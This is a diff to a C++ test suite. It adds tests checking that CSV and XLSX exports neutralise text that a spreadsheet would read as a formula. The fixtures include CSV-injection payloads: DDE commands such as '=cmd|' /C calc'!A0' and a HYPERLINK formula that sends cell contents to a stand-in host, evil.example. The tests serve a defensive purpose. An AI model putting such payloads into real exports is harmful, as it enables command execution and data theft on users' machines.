@@ -12,6 +12,7 @@
 
 #include "engine/log/payload.h"
 #include "engine/plan/rollup.h"
+#include "engine/util/csv.h"
 #include "tests/engine/plan/plan_fixture.h"
 #include "tests/process_util.h"
 
@@ -197,10 +198,12 @@ TEST_F(EvaluationTest, CsvAgreesWithTheJsonToTheLastDigit) {
     for (size_t r = 0; r < t.rows.size(); ++r) {
       for (size_t c = 0; c < t.columns.size(); ++c) {
         const Json& v = t.rows[r].value(t.columns[c].key, Json());
-        const std::string expected = v.is_null()      ? ""
-                                     : v.is_string()  ? v.get<std::string>()
-                                     : v.is_boolean() ? (v.get<bool>() ? "true" : "false")
-                                                      : v.dump();
+        const std::string expected =
+            v.is_null() ? ""
+            : v.is_string()
+                ? (StartsLikeFormula(v.get<std::string>()) ? "'" : "") + v.get<std::string>()
+            : v.is_boolean() ? (v.get<bool>() ? "true" : "false")
+                             : v.dump();
         EXPECT_EQ(rows[r + 1][c], expected) << t.name << " " << t.columns[c].key;
       }
     }
@@ -234,6 +237,95 @@ TEST_F(EvaluationTest, XlsxReadsBackWithTypedCellsAndFrozenHeaders) {
     EXPECT_EQ(ind["formats"][r + 1][16], "0.00%");
     EXPECT_EQ(ind["formats"][r + 1][7], "dd/mm/yyyy");  // the baseline date
   }
+}
+
+// Every text that a spreadsheet would read as a formula (OWASP's leading
+// = + - @ tab CR, and their full-width forms) comes out of the CSV with a
+// leading single quote, quoted; out of the XLSX as a string cell holding
+// the raw text, never a formula. Numbers stay numbers, negative ones too.
+const std::vector<std::string> kFormulaLike = {
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")",
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "-3.5",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1;=2",
+    "\xEF\xBC\x9D"
+    "1+1",  // full-width =
+    "\xEF\xBC\x8B"
+    "1",  // full-width +
+    "\xEF\xBC\x8D"
+    "1",  // full-width -
+    "\xEF\xBC\xA0"
+    "SUM(1)",  // full-width @
+};
+
+TEST_F(EvaluationTest, CsvNeutralisesEveryFormulaLikeText) {
+  for (const char lead : {'=', '+', '-', '@', '\t', '\r'}) {
+    const std::string text = std::string(1, lead) + "1+1";
+    EXPECT_TRUE(StartsLikeFormula(text)) << int(lead);
+    EXPECT_EQ(CsvTextCell(text), "\"'" + text + "\"") << int(lead);
+  }
+  for (const char* safe : {"Titre", "a=b", "1-2", " =1", "", "'=1"}) {
+    EXPECT_FALSE(StartsLikeFormula(safe)) << safe;
+  }
+  EXPECT_EQ(CsvTextCell("a;b"), "\"a;b\"");
+  Table t{"t", {{"x", "X", Column::Type::kText}, {"n", "N", Column::Type::kNumber}}, {}};
+  for (const std::string& text : kFormulaLike) t.rows.push_back({{"x", text}, {"n", -3.5}});
+  t.rows.push_back({{"x", "Titre ordinaire"}, {"n", -1}});
+  const std::string csv = ToCsv(t);
+  const auto rows = ParseCsv(csv);
+  ASSERT_EQ(rows.size(), t.rows.size() + 1);
+  for (size_t r = 0; r < kFormulaLike.size(); ++r) {
+    EXPECT_EQ(rows[r + 1][0], "'" + kFormulaLike[r]) << r;
+    EXPECT_EQ(rows[r + 1][1], "-3.5") << r;  // a number, written as one
+  }
+  EXPECT_EQ(rows.back()[0], "Titre ordinaire");
+  EXPECT_EQ(rows.back()[1], "-1");
+  // No field of the file starts like a formula, quoted or not.
+  for (const auto& row : rows) {
+    EXPECT_FALSE(StartsLikeFormula(row[0])) << row[0];
+  }
+  EXPECT_NE(csv.find("\r\n\"'=cmd|' /C calc'!A0\",-3.5\r\n"), std::string::npos) << csv;
+}
+
+TEST_F(EvaluationTest, XlsxWritesFormulaLikeTextAsPlainStrings) {
+  Table t{"t", {{"x", "X", Column::Type::kText}, {"n", "N", Column::Type::kNumber}}, {}};
+  for (const std::string& text : kFormulaLike) t.rows.push_back({{"x", text}, {"n", -3.5}});
+  const std::string path = dir_.Sub("formulas.xlsx");
+  ASSERT_TRUE(WriteXlsx({t}, path).ok());
+  auto run = testing::RunToEnd({"/usr/bin/python3", JALON_READ_XLSX, path});
+  ASSERT_EQ(run.code, 0) << run.output;
+  const Json sheet = Json::parse(run.output)["sheets"]["t"];
+  ASSERT_EQ(sheet["rows"].size(), kFormulaLike.size() + 1);
+  for (size_t r = 0; r < kFormulaLike.size(); ++r) {
+    EXPECT_EQ(sheet["kinds"][r + 1][0], "s") << kFormulaLike[r];
+    EXPECT_EQ(sheet["rows"][r + 1][0], kFormulaLike[r]);
+    EXPECT_EQ(sheet["kinds"][r + 1][1], "n");
+    EXPECT_EQ(sheet["rows"][r + 1][1], -3.5);
+  }
+}
+
+// End to end: an action titled like a formula, through the evaluation's
+// actions table.
+TEST_F(EvaluationTest, FormulaLikeTitleIsNeutralisedInTheEvaluationCsv) {
+  const std::string title = "=HYPERLINK(\"http://evil.example\",\"Voir\")";
+  ASSERT_TRUE(
+      Exec("EditAction", {{"direction", "DEJ"}, {"action", "A1.2"}, {"title", title}}).ok());
+  for (const Table& t : EvaluationTables(Evaluate("2018-07-01"))) {
+    if (t.name != "actions") continue;
+    const std::string csv = ToCsv(t);
+    EXPECT_EQ(csv.find(",=HYPERLINK"), std::string::npos);
+    EXPECT_EQ(csv.find("\"=HYPERLINK"), std::string::npos);
+    EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Voir\"\")\""),
+              std::string::npos)
+        << csv;
+    return;
+  }
+  FAIL() << "no actions table";
 }
 
 // Each audit rule on a known history, citing the events behind it; and the
